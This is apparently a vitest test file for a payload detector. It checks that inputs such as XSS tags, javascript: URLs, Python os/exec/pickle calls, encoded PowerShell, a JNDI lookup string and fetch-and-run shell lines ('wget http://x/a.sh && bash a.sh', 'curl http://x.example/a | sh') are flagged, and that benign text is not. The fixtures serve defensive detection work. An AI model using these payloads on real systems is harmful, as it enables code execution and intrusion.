import { deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { Budget } from '#formats/budget';
import { defaultLimits, LimitReached } from '#formats/limits';
import { addressesIn, textPayload } from './text-payload.ts';

const found = (text: string) => textPayload(text, new Budget())?.what;

describe('text that acts', () => {
  test.each([
    '<ScRiPt src=x>',
    '<img src=x onerror=alert(1)>',
    '<iframe src="http://x">',
    'javascript:alert(1)',
    '__import__("os")',
    'x = os.popen("id")',
    'exec(base64.b64decode("..."))',
    'pickle.loads(data)',
    'wget http://x/a.sh && bash a.sh',
    'bash -c "id"',
    'powershell -enc SQBFAFgA',
    '$' + '{jndi:ldap://x}',
    Buffer.from(Buffer.from('import os; os.system("id")').toString('base64')).toString('base64'),
    gzipSync('curl http://x.example/a | sh').toString('base64'),
    deflateSync('curl http://x.example/a | sh').toString('hex'),
    Buffer.from('powershell -enc SQBFAFgA', 'utf16le').toString('base64'),
    '\\u006f\\u0073\\u002e\\u0073\\u0079\\u0073\\u0074\\u0065\\u006d\\u0028',
    '%6f%73%2e%73%79%73%74%65%6d%28%31%29',
    '\\x6f\\x73\\x2e\\x73\\x79\\x73\\x74\\x65\\x6d\\x28\\x22\\x69\\x64\\x22\\x29',
  ])('%s', (text) => {
    expect(found(text)).toBeDefined();
  });
});

describe('text that describes', () => {
  test.each([
    'Call model.eval() before inference; see https://example.org.',
    'The system evaluates 3 < 5 and onward = fine.',
    'Executive summary: commands (none). Import os settings from the config.',
    'norm -r used as residual, chmod not needed',
    'q8_0 quantised with llama.cpp, bash users welcome',
    'clean: rm -rf dist build, then start again',
    'rm -rf ./out *.log',
    'sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
    'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
  ])('%s', (text) => {
    expect(found(text)).toBeUndefined();
  });
});

test('a long run of options after one name takes no longer than its length', () => {
  // Quadratic, this would run for minutes: the test would end at its deadline.
  expect(found('-nc '.repeat(250_000))).toBeUndefined();
});

test('texts without end are counted against the budget', () => {
  const budget = new Budget({ ...defaultLimits, maxSteps: 1000 });
  expect(() => {
    for (let round = 0; round < 100; round += 1) textPayload('<a '.repeat(100), budget);
  }).toThrow(LimitReached);
});

test('addresses are listed once each, within a bound', () => {
  expect(addressesIn('see http://a.example/x and http://a.example/x, https://b.example', 5)).toEqual([
    'http://a.example/x',
    'https://b.example',
  ]);
});
